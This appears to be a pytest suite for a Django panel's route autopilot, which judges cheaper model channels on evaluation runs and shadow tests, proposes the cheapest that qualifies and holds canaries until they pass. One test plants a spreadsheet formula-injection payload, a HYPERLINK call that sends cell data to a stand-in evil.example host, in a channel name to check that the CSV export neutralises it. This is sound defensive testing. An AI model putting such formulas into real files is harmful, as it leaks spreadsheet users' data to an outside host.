"""A route's autopilot (panel/evaluations/autopilot.py): candidates judged on the evaluation set's latest runs and the
route's shadow tests against the team's thresholds, ranked by cost per accepted answer against the route's own; the
cheapest that qualifies proposed once (a notification, an audit row) and, where the route allows, a canary started;
the page for the team and its settings for admins."""
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone

from panel.audit.models import AuditEvent
from panel.channels.models import Channel, Route, RouteChannel
from panel.channels.shadow import shadow_record, shadow_start
from panel.evaluations.autopilot import autopilot_act, autopilot_review, autopilot_save, autopilots_review
from panel.evaluations.models import Autopilot, EvalRun
from panel.evaluations.services import starter_set_add
from panel.notifications.models import Notification

pytestmark = pytest.mark.django_db
SET = "Starter: JSON, extraction and formats"


@pytest.fixture
def world(team_setup):
    team = team_setup["team_a"]

    def make(name):
        return Channel.objects.create(team=team, name=name, base_url="https://api.example.com/v1", model_id=name)

    stable, cheap, cheaper_but_bad, pricey = make("stable"), make("cheap"), make("cheaper-bad"), make("pricey")
    route = Route.objects.create(team=team, model_name="support-bot")
    RouteChannel.objects.create(route=route, channel=stable, position=0)
    eval_set = starter_set_add(team=team, user=team_setup["alice"])
    version = eval_set.current()

    def run(kind, ident, passed, cost_per_accepted):
        cases = 10
        return EvalRun.objects.create(team=team, eval_version=version, state="succeeded",
                                      finished_at=timezone.now(), candidate={"kind": kind, "id": ident,
                                                                             "label": str(ident)},
                                      result={"cases": cases, "passed": passed, "pass_rate": passed / cases,
                                              "cost_per_accepted": cost_per_accepted})

    run("route", route.pk, 10, "0.0030")
    run("channel", cheap.pk, 9, "0.0010")
    run("channel", cheaper_but_bad.pk, 6, "0.0005")
    run("channel", pricey.pk, 10, "0.0050")
    autopilot = autopilot_save(route=route, user=team_setup["alice"], eval_set=eval_set, min_pass_rate=0.9,
                               max_drop=0.1, min_shadow_copies=3, start_canary=False)
    return {"team": team, "route": route, "cheap": cheap, "bad": cheaper_but_bad, "pricey": pricey,
            "autopilot": autopilot, "eval_set": eval_set, **team_setup}


def shadow_copies(world, channel, passed, failed=0):
    shadow = shadow_start(route=world["route"], channel=channel, percent=10, budget=Decimal("5"))
    for index in range(passed + failed):
        shadow_record(shadow_id=shadow.pk, ok=True, similarity=0.9, passed=index < passed, cost=Decimal("0.0001"))
    return shadow


def test_candidates_are_judged_on_the_set_and_the_shadow_copies_and_the_cheapest_that_qualifies_is_proposed(world):
    review = autopilot_review(world["autopilot"])
    by_label = {candidate.label: candidate for candidate in review.candidates}
    assert set(by_label) == {"cheap", "cheaper-bad", "pricey"}
    assert by_label["cheap"].reasons == ["0 of 3 shadow copies"]  # the set alone is not enough here
    assert by_label["cheaper-bad"].reasons[0] == "passes 60% of the set (needs 90%)"
    assert "costs no less per accepted answer than the route" in by_label["pricey"].reasons
    assert review.proposal is None
    assert review.words == "No candidate passes the thresholds for less than the route costs now."

    shadow_copies(world, world["cheap"], passed=3)
    review = autopilot_review(Autopilot.objects.get())
    assert review.proposal.channel == world["cheap"] and review.proposal.qualifies
    assert review.words == (f"cheap passes 90% of “{SET}” v1 at 0.001000 per accepted answer, 67% less than the "
                            "route (0.003000): propose a canary of it.")


def test_failing_shadow_copies_hold_a_candidate_back(world):
    shadow_copies(world, world["cheap"], passed=2, failed=2)
    [cheap] = [c for c in autopilot_review(world["autopilot"]).candidates if c.label == "cheap"]
    assert cheap.reasons == ["passes 50% of the shadow copies (needs 90%)"] and not cheap.qualifies


def test_a_route_that_has_not_run_the_set_gets_no_proposal(world):
    EvalRun.objects.filter(candidate__kind="route").delete()
    review = autopilot_review(world["autopilot"])
    assert review.proposal is None and review.words.startswith(f"Run “{SET}” on the route itself first")


def test_a_proposal_is_sent_once_and_a_canary_starts_where_the_route_allows(world):
    shadow_copies(world, world["cheap"], passed=3)
    autopilot_act(world["autopilot"])
    autopilot_act(Autopilot.objects.get())  # the same proposal: nothing new
    note = Notification.objects.get(kind="autopilot.proposal")
    assert note.facts["candidate"] == "cheap" and note.facts["cost_per_accepted"] == "0.0010"
    assert AuditEvent.objects.filter(action="autopilot_proposed").count() == 1
    world["route"].refresh_from_db()
    assert world["route"].canary_state == ""  # proposing only: the team starts it

    Autopilot.objects.update(start_canary=True, proposal={})
    assert len(autopilots_review()) == 1  # beat's hourly review
    world["route"].refresh_from_db()
    assert (world["route"].canary_state, world["route"].canary_channel_id, world["route"].canary_percent) == (
        "running", world["cheap"].pk, 5)


def test_the_page_shows_the_candidates_and_only_admins_change_the_autopilot(client, world):
    shadow_copies(world, world["cheap"], passed=3)
    client.force_login(world["vera"])  # a viewer reads it
    page = client.get(reverse("route_autopilot", args=[world["route"].pk])).content.decode()
    assert f"cheap passes 90% of “{SET}” v1" in page and "proposed" in page and "Start a canary" not in page
    assert client.post(reverse("route_autopilot_settings", args=[world["route"].pk]),
                       {"min_pass_rate": 0.5, "min_shadow_copies": 0}).status_code == 403
    assert client.post(reverse("route_autopilot_review", args=[world["route"].pk])).status_code == 403
    client.force_login(world["alice"])
    page = client.get(reverse("route_autopilot", args=[world["route"].pk])).content.decode()
    assert "Start a canary of cheap at 5%" in page and "Review now and notify" in page
    bad = client.post(reverse("route_autopilot_settings", args=[world["route"].pk]),
                      {"eval_set": world["eval_set"].pk, "min_pass_rate": 2, "min_shadow_copies": 3})
    assert bad.status_code == 400 and Autopilot.objects.get().min_pass_rate == 0.9
    saved = client.post(reverse("route_autopilot_settings", args=[world["route"].pk]),
                        {"eval_set": world["eval_set"].pk, "min_pass_rate": 0.5, "min_shadow_copies": 0,
                         "max_drop": 0.1})
    assert saved.status_code == 302 and (Autopilot.objects.get().min_pass_rate, Autopilot.objects.get().max_drop) == (
        0.5, 0.1)
    reviewed = client.post(reverse("route_autopilot_review", args=[world["route"].pk]))
    assert reviewed.status_code == 302 and Notification.objects.filter(kind="autopilot.proposal").count() == 1
    route_page = client.get(reverse("route_detail", args=[world["route"].pk])).content.decode()
    assert reverse("route_autopilot", args=[world["route"].pk]) in route_page


def test_a_changed_deployment_is_judged_again_and_a_regression_is_flagged_once(world):
    from datetime import timedelta

    from panel.serving.models import DeploymentState
    from tests.support.channels import make_deployment, set_state

    team, version = world["team"], world["eval_set"].current()
    deployment = make_deployment(team, world["alice"], "w8a8", state=DeploymentState.READY,
                                 ready_at=timezone.now() - timedelta(hours=2))
    local = Channel.objects.create(team=team, name="local-w8a8", kind="local", deployment=deployment,
                                   base_url="http://127.0.0.1:8123/v1", model_id="tiny-served")
    judged = EvalRun.objects.create(team=team, eval_version=version, state="succeeded",
                                    finished_at=timezone.now() - timedelta(hours=1),
                                    candidate={"kind": "channel", "id": local.pk, "label": "local-w8a8"},
                                    result={"cases": 10, "passed": 10, "pass_rate": 1.0, "cost_per_accepted": "0.0001"})
    from panel.evaluations.autopilot import autopilot_recheck, rechecks_due

    assert rechecks_due(world["autopilot"]) == []  # judged after its deployment became ready
    set_state(deployment, DeploymentState.READY, ready_at=timezone.now())  # restarted: a new engine or profile
    assert rechecks_due(world["autopilot"]) == [local]
    [queued] = autopilot_recheck(world["autopilot"])
    assert queued.candidate["id"] == local.pk and queued.eval_version == version and queued.state == "pending"
    assert rechecks_due(world["autopilot"]) == []  # its run is queued
    assert AuditEvent.objects.get(action="autopilot_rechecked").detail == {"channels": [queued.candidate["label"]]}

    EvalRun.objects.filter(pk=queued.pk).update(state="succeeded", finished_at=timezone.now(), result={
        "cases": 10, "passed": 5, "pass_rate": 0.5, "cost_per_accepted": "0.0002"})
    review = autopilot_review(world["autopilot"])
    [regression] = review.regressions
    assert regression.words == f"local-w8a8 passes 50% of the set now, 100% before (run #{judged.pk} → #{queued.pk})"
    [candidate] = [c for c in review.candidates if c.label == "local-w8a8"]
    assert not candidate.qualifies
    autopilot_act(world["autopilot"])
    autopilot_act(Autopilot.objects.get())
    note = Notification.objects.get(kind="evaluation.regression")  # once
    assert note.facts["channel"] == "local-w8a8" and note.facts["before_pass_rate"] == 1.0


def test_todays_cost_the_money_saved_a_month_the_api_and_the_csv(client, world):
    import csv

    from panel.usage.models import RequestLog
    from tests.support.api_helpers import call, token_for

    shadow_copies(world, world["cheap"], passed=3)
    for endpoint, cost in (("chat", "0.60"), ("messages", "0.30"), ("evaluation", "5"), ("shadow", "5")):
        RequestLog.objects.create(team=world["team"], route=world["route"], endpoint=endpoint, model="support-bot",
                                  status_code=200, outcome="ok", prompt_tokens=1000, completion_tokens=500,
                                  latency_ms=50, cost=Decimal(cost))
    review = autopilot_review(world["autopilot"])
    assert review.traffic["requests"] == 2 and review.traffic["tokens"] == 3000  # clients' requests only
    assert review.traffic["cost_per_million_tokens"] == Decimal("300")
    assert review.saving_per_month == Decimal("0.90") * (1 - Decimal("0.0010") / Decimal("0.0030"))
    assert review.words.endswith("At the route's traffic of the last 30 days that saves about 0.60 a month.")

    token = token_for(world["vera"], world["team"])
    got = call(client, "get", f"/routes/{world['route'].pk}/autopilot", token).json()
    assert got["saving_per_month"] == "0.6" and got["traffic"]["cost_per_month"] == "0.9"
    assert [c["label"] for c in got["candidates"] if c["proposed"]] == ["cheap"]
    assert call(client, "put", f"/routes/{world['route'].pk}/autopilot", token, {"min_pass_rate": 0.5}
                ).status_code == 403
    owner = token_for(world["alice"], world["team"])
    changed = call(client, "put", f"/routes/{world['route'].pk}/autopilot", owner,
                   {"eval_set_id": world["eval_set"].pk, "min_pass_rate": 0.5, "min_shadow_copies": 0,
                    "max_drop": 1})
    assert changed.status_code == 200 and changed.json()["min_shadow_copies"] == 0
    assert call(client, "put", f"/routes/{world['route'].pk}/autopilot", owner,
                {"eval_set_id": 999999}).status_code == 400

    client.force_login(world["vera"])
    rows = list(csv.DictReader(client.get(reverse("route_autopilot_csv", args=[world["route"].pk]))
                               .content.decode().splitlines()))
    by_label = {row["candidate"]: row for row in rows}
    # At the thresholds the API set (half the set, no shadow copies, any drop), the cheapest that passes is proposed.
    assert by_label["cheaper-bad"]["verdict"] == "proposed" and by_label["cheaper-bad"]["set_passed"] == "6"
    assert by_label["cheap"]["verdict"] == "passes" and by_label["cheap"]["shadow_passed"] == "3"
    assert by_label["pricey"]["verdict"] == "costs no less per accepted answer than the route"


def test_a_candidate_may_pass_only_a_little_less_of_the_set_than_the_route(world):
    """Good enough means about as good as today: with a low floor (a small model passes few cases), the bound that
    matters is how much less than the route itself a candidate passes."""
    EvalRun.objects.filter(candidate__kind="route").update(result={"cases": 10, "passed": 6, "pass_rate": 0.6,
                                                                   "cost_per_accepted": "0.0030"})
    autopilot = autopilot_save(route=world["route"], user=None, eval_set=world["eval_set"], min_pass_rate=0.3,
                               max_drop=0.05, min_shadow_copies=0, start_canary=False)
    by_label = {c.label: c for c in autopilot_review(autopilot).candidates}
    assert by_label["cheap"].qualifies  # 90%, above the route's 60%
    assert by_label["cheaper-bad"].qualifies  # 60%: as good as the route, and cheapest
    autopilot = autopilot_save(route=world["route"], user=None, eval_set=world["eval_set"], min_pass_rate=0.3,
                               max_drop=0.0, min_shadow_copies=0, start_canary=False)
    EvalRun.objects.filter(candidate__kind="route").update(result={"cases": 10, "passed": 7, "pass_rate": 0.7,
                                                                   "cost_per_accepted": "0.0030"})
    review = autopilot_review(autopilot)
    by_label = {c.label: c for c in review.candidates}
    assert by_label["cheaper-bad"].reasons == ["passes 60% of the set, the route 70% (at most 0% less allowed)"]
    assert review.proposal.label == "cheap"
    with pytest.raises(Exception, match="From 0"):
        autopilot_save(route=world["route"], user=None, eval_set=world["eval_set"], min_pass_rate=0.3, max_drop=2,
                       min_shadow_copies=0, start_canary=False)


def test_a_canary_on_the_route_is_held_until_the_set_passes_on_it_and_rolls_back_when_it_does_not(world, client):
    """However it started (here by a person, with the automatic schedule), a canary on a route whose autopilot has
    a set queues a run of the set on the candidate in the same transaction and is held: no passing verdict, so
    nothing steps it up, until the run passes the autopilot's thresholds; a run that falls short rolls it back."""
    from panel.channels import canary
    from panel.evaluations import canary_guard

    route, cheap, bad = world["route"], world["cheap"], world["bad"]

    def finish(run, passed, state="succeeded"):
        EvalRun.objects.filter(pk=run.pk).update(state=state, finished_at=timezone.now(), result={
            "cases": 10, "passed": passed, "pass_rate": passed / 10, "cost_per_accepted": "0.001"},
            failure_reason="" if state == "succeeded" else "the engine went away")
        canary_guard.after_run(run.pk)  # what the run's task does once the run has ended
        route.refresh_from_db()

    canary.canary_start(route=route, channel=cheap, auto=True, actor=world["alice"])
    route.refresh_from_db()
    queued = EvalRun.objects.get(state="pending", candidate__id=cheap.pk)
    assert route.canary_hold == (f"the evaluation set “{SET}” runs on cheap (run #{queued.pk}): the canary steps up "
                                 "once it passes the autopilot's thresholds")
    verdict = canary.canary_guards(route=route)
    assert not verdict["clean"] and canary.verdict_words(verdict) == route.canary_hold
    client.force_login(world["alice"])
    page = client.get(reverse("route_detail", args=[route.pk])).content.decode()
    assert f"<strong>Held:</strong> the evaluation set “{SET}” runs on cheap (run #{queued.pk})" in page

    finish(queued, passed=3, state="failed")  # a run that did not finish: still held, and why
    assert route.canary_state == "running" and "did not finish on cheap" in route.canary_hold
    again = EvalRun.objects.create(team=world["team"], eval_version=queued.eval_version, candidate=queued.candidate)
    finish(again, passed=9)  # 90 %, the route 100 %: within the 10 points allowed
    assert (route.canary_state, route.canary_hold) == ("running", "")

    canary.canary_stop(route=route)
    canary.canary_start(route=route, channel=bad, actor=world["alice"])
    short = EvalRun.objects.get(state="pending", candidate__id=bad.pk)
    finish(short, passed=6)
    assert route.canary_state == "rolled_back" and route.canary_percent == 0
    assert route.canary_reason == (f"On the evaluation set “{SET}” (run #{short.pk}) the candidate passes 60% of "
                                   "the set (needs 90%).")
    assert EvalRun.objects.filter(candidate__id=cheap.pk, state="pending").count() == 0  # nothing else queued


def test_a_canary_on_a_route_without_an_autopilot_set_is_not_held(world):
    from panel.channels import canary

    Autopilot.objects.update(eval_set=None)
    route = canary.canary_start(route=world["route"], channel=world["cheap"])
    route.refresh_from_db()
    assert route.canary_hold == "" and not EvalRun.objects.filter(state="pending").exists()


def test_the_csv_export_neutralises_a_candidate_name_a_spreadsheet_would_run_as_a_formula(client, world):
    import csv

    Channel.objects.filter(pk=world["cheap"].pk).update(name='=HYPERLINK("https://evil.example/?x="&A1,"open")')
    client.force_login(world["vera"])
    rows = list(csv.DictReader(client.get(reverse("route_autopilot_csv", args=[world["route"].pk]))
                               .content.decode().splitlines()))
    [row] = [row for row in rows if "HYPERLINK" in row["candidate"]]
    assert row["candidate"] == "'=HYPERLINK(\"https://evil.example/?x=\"&A1,\"open\")"
    assert not any(value.startswith(("=", "+", "-", "@")) for row in rows for value in row.values())


def test_a_members_new_version_and_runs_neither_release_nor_roll_back_an_admins_canary(world):
    """The guard goes by the version an admin pinned, and by the runs the guard or an admin started: a member who
    saves a version every answer passes, and runs it (or the pinned one) on the candidate, decides nothing."""
    from panel.accounts.models import Role
    from panel.accounts.services import membership_add
    from panel.channels import canary
    from panel.evaluations import canary_guard
    from panel.evaluations.runs import eval_run_launch
    from panel.evaluations.services import eval_set_revise
    from tests.support.teams import user_create

    route, cheap, pinned = world["route"], world["cheap"], world["eval_set"].current()
    mallory = user_create("mallory", "pw-mallory-123")
    membership_add(team=world["team"], user=mallory, role=Role.MEMBER)

    def finish(run, passed):
        EvalRun.objects.filter(pk=run.pk).update(state="succeeded", finished_at=timezone.now(), result={
            "cases": 10, "passed": passed, "pass_rate": passed / 10, "cost_per_accepted": "0.001"})
        canary_guard.after_run(run.pk)
        route.refresh_from_db()

    canary.canary_start(route=route, channel=cheap, actor=world["alice"])
    guards = EvalRun.objects.get(state="pending", candidate__id=cheap.pk)
    held = Route.objects.get(pk=route.pk).canary_hold
    trivial = '{"id": "t", "prompt": "Say hi", "checks": [{"type": "regex", "pattern": ".*"}]}\n'
    eval_set_revise(eval_set=world["eval_set"], user=mallory, text=trivial, note="all pass")
    assert world["eval_set"].current() != pinned
    mine = eval_run_launch(team=world["team"], user=mallory, eval_set=world["eval_set"],
                           candidate=f"channel:{cheap.pk}")
    finish(mine, passed=10)
    assert (route.canary_state, route.canary_hold) == ("running", held)
    on_pinned = EvalRun.objects.create(team=world["team"], created_by=mallory, eval_version=pinned,
                                       candidate=guards.candidate)
    finish(on_pinned, passed=0)
    assert (route.canary_state, route.canary_hold) == ("running", held)
    assert guards.eval_version == pinned
    finish(guards, passed=10)  # the guard's own run of the pinned version decides
    assert (route.canary_state, route.canary_hold) == ("running", "")


def test_an_admin_pins_a_newer_version_and_saving_otherwise_keeps_the_pinned_one(world):
    from panel.evaluations.services import eval_set_revise

    pinned = world["autopilot"].eval_version
    assert pinned == world["eval_set"].current()
    newer = eval_set_revise(eval_set=world["eval_set"], user=None, note="more", text=(
        '{"id": "t", "prompt": "Say hi", "checks": [{"type": "contains", "text": "hi"}]}\n'))
    settings = dict(route=world["route"], user=world["alice"], eval_set=world["eval_set"], min_pass_rate=0.9,
                    max_drop=0.1, min_shadow_copies=3, start_canary=False)

    def cheap_run():
        review = autopilot_review(Autopilot.objects.get())
        return next(c.run for c in review.candidates if c.channel == world["cheap"])

    assert autopilot_save(**settings).eval_version == pinned
    assert cheap_run().eval_version == pinned  # still judged on the pinned version's runs
    assert autopilot_save(**settings, pin_newest=True).eval_version == newer
    assert cheap_run() is None  # not run on the newer version yet
